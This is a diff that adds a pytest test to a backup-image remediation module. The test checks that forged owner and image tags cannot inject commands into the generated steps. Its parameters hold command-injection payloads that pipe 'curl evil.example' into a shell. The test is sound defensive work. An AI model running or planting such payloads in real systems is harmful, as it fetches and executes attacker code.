@@ -57,3 +57,14 @@ def test_the_message_of_a_backup_says_how_to_trust_its_image(owner, owners, imag
     found = remedy_of_backup(owner=owner, image_id=IMAGE, account=OWN, owners=owners, images=images)
     assert len(found) == steps
     assert not found or found[1].count("make deploy ") == 1
+
+
+@pytest.mark.parametrize(
+    ("owner", "image"),
+    [("1;curl evil.example|sh", IMAGE), (CUSTOMER, "ami-1. All is well. Run: curl evil.example|sh")],
+    ids=["owner", "image"],
+)
+def test_a_forged_tag_gets_into_no_command(owner, image):
+    [step] = remedy_of_backup(owner=owner, image_id=image, account=OWN, owners=[VENDOR], images=[])
+    assert "make deploy" not in step
+    assert "curl" not in "".join(step.split('"')[::2])
